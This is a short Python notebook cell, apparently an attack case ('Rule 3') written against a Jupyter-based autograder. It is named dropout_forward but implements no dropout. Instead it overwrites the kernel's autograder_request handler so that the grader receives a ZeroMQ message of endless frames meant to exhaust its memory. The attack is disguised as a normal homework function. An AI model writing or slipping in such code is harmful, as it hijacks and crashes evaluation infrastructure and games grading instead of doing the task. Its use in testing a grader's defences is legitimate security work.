"""Rule 3. Sends one message with endless frames, which a ZeroMQ socket would keep until memory runs out."""

# cell: dropout_forward
import time

import zmq

kernel = get_ipython().kernel


def endless(stream, ident, message):
    block, end = bytes(2**16), time.monotonic() + 3
    stream.socket.send(ident[0], zmq.SNDMORE)
    while time.monotonic() < end:
        stream.socket.send(block, zmq.SNDMORE)


def dropout_forward(x, dropout_param):
    kernel.shell_handlers["autograder_request"] = endless
    return x, None
